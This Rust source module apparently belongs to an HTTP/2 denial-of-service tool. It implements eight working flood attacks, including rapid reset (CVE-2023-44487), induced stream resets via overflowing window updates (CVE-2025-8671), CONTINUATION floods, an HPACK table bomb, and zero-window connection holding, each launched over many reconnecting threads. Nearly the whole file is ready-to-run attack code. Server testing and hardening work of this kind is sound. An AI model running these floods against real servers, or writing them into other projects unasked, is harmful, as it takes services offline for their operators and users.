//! Floods of HTTP/2 frames, as fast as they are taken.

use std::sync::atomic::Ordering;
use std::thread::JoinHandle;
use std::time::Duration;

use crate::Attack;
use crate::frames::{
    CONTINUATION, DATA, END, END_HEADERS, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, Wire, block, frame, get,
    string,
};

/// Connections that flood at the same time.
const CONNECTIONS: usize = 8;
/// Connections of an attack that only holds on.
const HOLDERS: usize = 100;
/// How long a connection that was ended, or takes no more, is left alone.
const PAUSE: Duration = Duration::from_millis(5);

/// One kind of flood.
pub(super) struct Flood {
    pub(super) name: &'static str,
    connections: usize,
    /// What is sent after the preface, each time with a number that grows.
    bytes: fn(u32) -> Vec<u8>,
    /// How often it is sent on one connection. A flood that holds on stays there after that.
    turns: u32,
}

/// All of them.
pub(super) const FLOODS: [Flood; 8] = [
    Flood { name: "rapid-reset", connections: CONNECTIONS, bytes: resets, turns: u32::MAX },
    Flood { name: "own-errors", connections: CONNECTIONS, bytes: own_errors, turns: u32::MAX },
    Flood { name: "settings", connections: CONNECTIONS, bytes: settings, turns: u32::MAX },
    Flood { name: "ping", connections: CONNECTIONS, bytes: pings, turns: u32::MAX },
    Flood { name: "continuation", connections: CONNECTIONS, bytes: continuations, turns: u32::MAX },
    Flood { name: "hpack-bomb", connections: CONNECTIONS, bytes: bomb, turns: u32::MAX },
    Flood { name: "empty-data", connections: CONNECTIONS, bytes: empty_data, turns: u32::MAX },
    Flood { name: "no-window", connections: HOLDERS, bytes: without_window, turns: 1 },
];

impl Flood {
    pub(super) fn start(&self, attack: &Attack) -> JoinHandle<()> {
        let (attack, bytes, turns) = (attack.clone(), self.bytes, self.turns);
        let connections = self.connections;
        std::thread::spawn(move || {
            std::thread::scope(|scope| {
                for _ in 0..connections {
                    scope.spawn(|| flood(&attack, bytes, turns));
                }
            });
        })
    }
}

fn flood(attack: &Attack, bytes: fn(u32) -> Vec<u8>, turns: u32) {
    let is_over = || attack.stop.load(Ordering::Relaxed);
    while !is_over() {
        let Ok(mut wire) = Wire::connect(attack.address) else {
            std::thread::sleep(PAUSE);
            continue;
        };
        attack.connections.fetch_add(1, Ordering::Relaxed);
        wire.send(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat());
        let mut turn = 0;
        while turn < turns && !is_over() && wire.send(&bytes(turn)) {
            turn += 1;
        }
        while turn == turns && !is_over() {
            std::thread::sleep(Duration::from_millis(100));
        }
        std::thread::sleep(PAUSE);
    }
}

/// The stream of that number.
fn stream(number: u32) -> u32 {
    (2 * number + 1) & 0x7fff_ffff
}

fn head_of_post(stream: u32) -> Vec<u8> {
    let fields = [(":method", "POST"), (":scheme", "http"), (":path", "/"), (":authority", "a.example")];
    frame(HEADERS, END_HEADERS, stream, &block(&fields))
}

/// CVE-2023-44487.
fn resets(turn: u32) -> Vec<u8> {
    let streams = (turn * 50..turn * 50 + 50).map(stream);
    streams.flat_map(|stream| [get(stream, "/"), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()).collect()
}

/// CVE-2025-8671: the server is made to reset streams itself, by windows that overflow.
fn own_errors(turn: u32) -> Vec<u8> {
    let streams = (turn * 50..turn * 50 + 50).map(stream);
    streams.flat_map(|stream| [get(stream, "/"), frame(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff])].concat()).collect()
}

fn settings(_: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(500)
}

fn pings(_: u32) -> Vec<u8> {
    frame(PING, 0, 0, &[7; 8]).repeat(500)
}

/// A header block without end (the floods of 2024).
fn continuations(turn: u32) -> Vec<u8> {
    match turn {
        0 => frame(HEADERS, END, 1, &block(&[(":method", "GET")])),
        _ => frame(CONTINUATION, 0, 1, &block(&[("x-flood", "y")]).repeat(1000)),
    }
}

/// One large field in the dynamic table, named thousands of times.
fn bomb(turn: u32) -> Vec<u8> {
    let fields = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "a.example")];
    let mut bytes = block(&fields);
    bytes.push(0x40);
    string(&mut bytes, "x-bomb");
    string(&mut bytes, &"b".repeat(4000));
    // The youngest entry of the dynamic table.
    bytes.extend(std::iter::repeat_n(0x80 | 62, 8_000));
    frame(HEADERS, END_HEADERS | END, stream(turn), &bytes)
}

fn empty_data(turn: u32) -> Vec<u8> {
    match turn {
        0 => head_of_post(1),
        _ => frame(DATA, 0, 1, &[]).repeat(500),
    }
}

/// A hundred large answers whose streams have no window.
fn without_window(_: u32) -> Vec<u8> {
    let requests = (0..100).flat_map(|number| get(stream(number), "/large"));
    frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]).into_iter().chain(requests).collect()
}
